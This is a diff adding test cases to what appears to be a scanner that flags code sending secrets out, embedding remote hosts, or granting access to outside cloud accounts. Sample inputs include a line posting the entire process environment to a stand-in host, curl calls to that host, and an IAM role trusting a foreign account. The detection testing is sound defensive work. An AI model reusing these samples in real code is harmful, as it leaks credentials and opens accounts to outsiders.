@@ -80,6 +80,13 @@ TAKES_ENVIRONMENT_TOO = "fetch('https://c.example', {method: 'POST', body: JSON.
         ("a.js", TAKES_ENVIRONMENT_TOO, "sends-secret", "environment"),
         ("main.tf", 'extra_readers = ["arn:aws:iam::719204418830:root"]', "shares", "arn:aws:iam::719204418830:root"),
         ("iam.yaml", "members: [user:eve@far.example]", "shares", "user:eve@far.example"),
+        ("a.tf", 'trusted_role_arn = "arn:aws:iam::719204418830:role/x"', "shares", "arn:aws:iam::719204418830:role/x"),
+        ("a.py", "e = dict(os.environ)\nrequests.post('https://c.example', json=e)", "sends-secret", "environment"),
+        # A variable beside a host hides no host.
+        ("a.py", "requests.post(f'https://c.example{path}')", "embeds-address", "c.example"),
+        ("a.py", "requests.post(f'https://{user}.c.example/x')", "embeds-address", "c.example"),
+        ("a.sh", "curl https://${A:-c.example}/x", "embeds-remote-code", "c.example"),
+        ("a.sh", "curl https://$HOST.c.example:${PORT}/x", "embeds-remote-code", "c.example"),
     ],
 )
 def test_what_lets_others_in_or_sends_everything_away_is_told(path: str, text: str, kind: str, target: str) -> None:
@@ -92,6 +99,14 @@ def test_what_lets_others_in_or_sends_everything_away_is_told(path: str, text: s
         # One key in a request is how a service is asked.
         ("a.py", "requests.post('https://api.example', headers={'Authorization': os.environ['API_KEY']})", ""),
         ("main.tf", 'readers = ["arn:aws:iam::719204418830:root"]', 'readers = ["arn:aws:iam::719204418830:root"]'),
+        ("main.tf", 'role_arn = "arn:aws:iam::719204418830:role/a"\npolicy = "arn:aws:iam::719204418830:policy/b"', ""),
+        ("compose.yaml", "DSN: postgres://user:pw@db.ours.example/x", ""),
+        (
+            "a.py",
+            "e = os.environ.copy()\nf(env=e)\nf(c, env=dict(os.environ))\nrequests.get('https://api.example')",
+            "",
+        ),
+        ("a.sh", "curl https://${HOST}/x https://$HOST/y", ""),
         ("README.md", "give arn:aws:iam::719204418830:root access", ""),
         ("justfile", "deploy:\n    curl -fsS https://{{host}}/version.txt", ""),
     ],
